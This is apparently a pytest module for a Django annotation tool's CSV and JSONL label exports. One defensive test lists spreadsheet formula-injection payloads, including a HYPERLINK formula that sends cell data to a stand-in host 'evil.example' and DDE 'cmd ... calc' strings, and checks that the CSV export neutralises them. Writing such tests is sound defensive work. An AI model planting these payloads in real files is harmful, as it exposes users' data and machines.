"""Exported labels: one row per label with the annotator, the time and the review's resolution."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta

import pytest
from django.contrib.auth.models import User
from django.utils import timezone

from apps.labelling.resolutions import resolution_settle
from apps.labelling.services import annotation_create, assignment_next
from tests.labelling.conftest import MakeQueue, MakeReviews, api_as, signed_in

pytestmark = pytest.mark.django_db

HEADER = [
    "review_id", "source", "external_id", "text", "label", "annotator", "labelled_at", "queue", "gold_label",
    "resolution", "resolution_method", "resolution_reason", "settled_by", "resolved_at",
]  # fmt: skip


@pytest.fixture
def labelled(make_reviews: MakeReviews, make_queue: MakeQueue, alice: User, bob: User, admin: User) -> dict:
    """Two reviews, each labelled by alice and bob: the first unanimously positive, the second split and settled."""
    agreed, split = make_reviews(texts=['A "quoted", comma review\nover two lines.', "Split review."])
    queue = make_queue("Pass one", overlap=2)
    given = {alice: {agreed.pk: "positive", split.pk: "positive"}, bob: {agreed.pk: "positive", split.pk: "negative"}}
    for user, labels in given.items():
        for _ in range(2):
            assignment = assignment_next(queue=queue, user=user)
            annotation_create(queue=queue, user=user, review_id=assignment.review_id, label=labels[assignment.review_id])
    resolution_settle(review=split, label="negative", reason="Irony.", by=admin)
    return {"queue": queue, "agreed": agreed, "split": split}


def test_the_csv_export(labelled: dict, admin: User) -> None:
    response = signed_in(admin).get("/labelling/labels.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="labels-all-')
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == HEADER
    records = [dict(zip(HEADER, row)) for row in rows[1:]]
    assert [(r["review_id"], r["annotator"], r["label"]) for r in records] == [
        (str(labelled["agreed"].pk), "alice", "positive"),
        (str(labelled["agreed"].pk), "bob", "positive"),
        (str(labelled["split"].pk), "alice", "positive"),
        (str(labelled["split"].pk), "bob", "negative"),
    ]
    first, last = records[0], records[-1]
    assert first["text"] == 'A "quoted", comma review\nover two lines.'
    assert (first["resolution"], first["resolution_method"], first["resolution_reason"]) == (
        "positive", "unanimous", "All 2 annotators said positive.",
    )
    assert (last["resolution"], last["resolution_method"], last["resolution_reason"], last["settled_by"]) == (
        "negative", "settled", "Irony.", "admin",
    )
    assert first["queue"] == "Pass one" and first["gold_label"] == ""
    labelled_at = datetime.fromisoformat(first["labelled_at"])
    assert first["labelled_at"].endswith("Z") and labelled_at.utcoffset() == timedelta(0)
    assert abs(timezone.now() - labelled_at) < timedelta(minutes=5)


def test_the_jsonl_export_of_one_queue(labelled: dict, admin: User, make_queue: MakeQueue) -> None:
    response = signed_in(admin).get(f"/labelling/labels.jsonl?queue={labelled['queue'].pk}")

    records = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    assert list(records[0]) == HEADER
    assert len(records) == 4
    assert records[3] | {"labelled_at": None, "resolved_at": None} == {
        "review_id": labelled["split"].pk,
        "source": "test",
        "external_id": labelled["split"].external_id,
        "text": "Split review.",
        "label": "negative",
        "annotator": "bob",
        "labelled_at": None,
        "queue": "Pass one",
        "gold_label": None,
        "resolution": "negative",
        "resolution_method": "settled",
        "resolution_reason": "Irony.",
        "settled_by": "admin",
        "resolved_at": None,
    }


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


@pytest.mark.parametrize("url", ["/labelling/labels.csv", "/api/labelling/export.csv"])
def test_the_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(
    url: str, make_reviews: MakeReviews, make_queue: MakeQueue, alice: User, admin: User
) -> None:
    reviews = make_reviews(texts=FORMULAS)
    queue = make_queue("=cmd|' /C calc'!A0", annotators=[alice])
    for _ in reviews:
        assignment = assignment_next(queue=queue, user=alice)
        annotation_create(queue=queue, user=alice, review_id=assignment.review_id, label="positive")

    client = signed_in(admin) if url.startswith("/labelling/") else api_as(admin)
    rows = list(csv.DictReader(io.StringIO(b"".join(client.get(url).streaming_content).decode())))

    assert sorted(row["text"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert {row["queue"] for row in rows} == {"'=cmd|' /C calc'!A0"}


def test_the_jsonl_export_keeps_such_text_as_it_was(
    make_reviews: MakeReviews, make_queue: MakeQueue, alice: User, admin: User
) -> None:
    make_reviews(texts=[FORMULAS[0]])
    queue = make_queue("plain", annotators=[alice])
    assignment = assignment_next(queue=queue, user=alice)
    annotation_create(queue=queue, user=alice, review_id=assignment.review_id, label="positive")

    body = b"".join(signed_in(admin).get("/labelling/labels.jsonl").streaming_content).decode()
    records = [json.loads(line) for line in body.splitlines()]

    assert records[0]["text"] == FORMULAS[0]
